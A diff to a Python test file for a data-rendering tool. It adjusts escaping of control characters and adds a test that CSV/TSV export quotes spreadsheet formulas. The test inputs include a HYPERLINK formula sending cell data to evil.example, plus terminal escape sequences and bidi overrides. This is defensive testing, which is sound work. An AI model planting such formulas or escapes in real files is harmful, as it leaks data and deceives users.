@@ -273,7 +273,7 @@ def assert_inert(out: str) -> None:
     # (CSV ends its lines with \r\n, as RFC 4180 says.)
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out.replace("\r\n", "\n")), out
     assert r"\x1b[2J\x1b[H" in out and r"\x1b]52;c;ZXZpbA==\x07" in out and r"\x9b31m" in out
-    assert r"ok\x0dEVIL" in out and r"\u202e1202\u202c" in out
+    assert r"ok\rEVIL" in out and r"\u202e1202\u202c" in out
 
 
 @pytest.mark.parametrize(
@@ -326,10 +326,11 @@ def test_show_json_keeps_the_text(run, hostile_facts: Path) -> None:
         ("c1\x85\x9b", r"c1\x85\x9b"),
         ("del\x7f", r"del\x7f"),
         ("windows\r\nline", "windows\nline"),
-        ("lone\rreturn", r"lone\x0dreturn"),
+        ("lone\rreturn", r"lone\rreturn"),
         ("keeps\ttab\nand newline", "keeps\ttab\nand newline"),
         ("\u202eoverride\u202c \u2067isolate\u2069", r"\u202eoverride\u202c \u2067isolate\u2069"),
-        ("mark\u200f stays", "mark\u200f stays"),
+        ("mark\u200f, separator\u2028", r"mark\u200f, separator\u2028"),
+        ("no-break\u00a0space, ideographic\u3000space", "no-break\u00a0space, ideographic\u3000space"),
     ],
 )
 def test_printable(text: str, shown: str) -> None:
@@ -422,3 +423,22 @@ def test_chart_fits_the_terminal(run, monkeypatch: pytest.MonkeyPatch) -> None:
         tokens = out.split()
         assert all(v in tokens for v in ("30.77", "28.3", "21.31", "17.7", "10.11", "2014-01/2014-10", "pecob-2017"))
         assert all(cell_len(line) <= width for line in out.splitlines() if "█" in line or "▒" in line)
+
+
+# --------------------------------------------------------------------------- formulas in CSV
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", " =1+1", "\t=1+1"]
+
+
+@pytest.mark.parametrize("dialect", ["csv", "tsv"])
+def test_formula_safe_csv_quotes_what_a_spreadsheet_would_run(dialect: str) -> None:
+    import csv
+
+    records = [{"title": text, "value": -38.0, "change": "-33.3", "date": "2014-01/2014-10"} for text in FORMULAS]
+    columns = [("title", "Title"), ("value", "Value"), ("change", "Change"), ("date", "Date")]
+    safe = render.to_delimited(records, columns, dialect, formula_safe=True)
+    rows = list(csv.reader(io.StringIO(safe), delimiter="," if dialect == "csv" else "\t"))[1:]
+    assert all(row[0].startswith("'") for row in rows), rows
+    assert {(row[1], row[2], row[3]) for row in rows} == {("-38", "-33.3", "2014-01/2014-10")}  # numbers stay numbers
+    plain = render.to_delimited(records, columns, dialect)
+    assert not any(row[0].startswith("'") for row in csv.reader(io.StringIO(plain)))  # the default: the data as it is
